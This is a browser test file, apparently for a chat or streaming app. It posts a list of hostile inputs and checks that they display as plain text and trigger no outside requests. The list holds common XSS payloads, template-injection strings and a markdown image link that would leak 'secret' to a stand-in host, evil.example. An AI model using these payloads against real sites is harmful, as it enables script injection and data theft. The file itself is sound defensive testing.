import { describe, expect, it } from 'vitest';

import { post } from './support/browser.js';
import { browserSuite } from './support/browser-suite.js';

/** What must be shown as it was written, and nothing else. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe src="javascript:alert(1)"></iframe>',
  `'"--></style></script><script>alert(1)</script>`,
  '<a href="javascript:alert(1)">press me</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[press me](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  'https://bank.example@evil.example/',
  '{{constructor.constructor("alert(1)")()}} {{7*7}} ${7*7} <%= 7*7 %>',
  '&lt;b&gt; &amp; &#x3c;script&#x3e;',
  '<template><script>alert(1)</script></template>',
];

describe('hostile words', () => {
  const suite = browserSuite();

  it('are shown as they were written, live and in the HTML, and do nothing', async () => {
    const { person: reader, client } = await suite.host();
    const requests: string[] = [];
    reader.page.on('request', (request) => requests.push(new URL(request.url()).origin));
    await client.patch('/user/me', { nickname: '<b>x</b>"\'>' });
    await reader.open('/streaming/main');
    await post(client, 'main', HOSTILE);
    await reader.message('<template>').waitFor();
    await client.patch('/api/rooms/main', { title: '</title><script>alert(1)</script>' });
    await reader.page.locator('[data-slot="line"]', { hasText: '</title>' }).waitFor();
    await inspect();

    for (const path of ['/streaming/main', '/streaming/main/popout', '/streaming/main/overlay', '/']) {
      await reader.page.goto(suite.server.url + path);
      await reader.page.locator('#chat').waitFor();
      if (path !== '/') {
        await reader.live();
        await inspect();
      }
    }
    const plain = await suite.browser.newContext({ javaScriptEnabled: false });
    const page = await plain.newPage();
    await page.goto(`${suite.server.url}/streaming/main`);
    await expect
      .poll(() => page.locator('[data-slot="list"] [data-slot="text"]').allTextContents())
      .toEqual(HOSTILE);

    expect(new Set(requests)).toEqual(new Set([suite.server.url]));

    async function inspect() {
      await expect.poll(() => reader.texts()).toEqual(HOSTILE);
      const text = reader.page.locator('[data-slot="list"] [data-slot="text"]');
      expect(await text.locator(':not(a)').count()).toBe(0);
      for (const link of await text.locator('a').all()) {
        expect(await link.getAttribute('href')).toMatch(/^https?:\/\//);
        expect(await link.getAttribute('rel')).toBe('noopener nofollow ugc');
      }
    }
  });
});
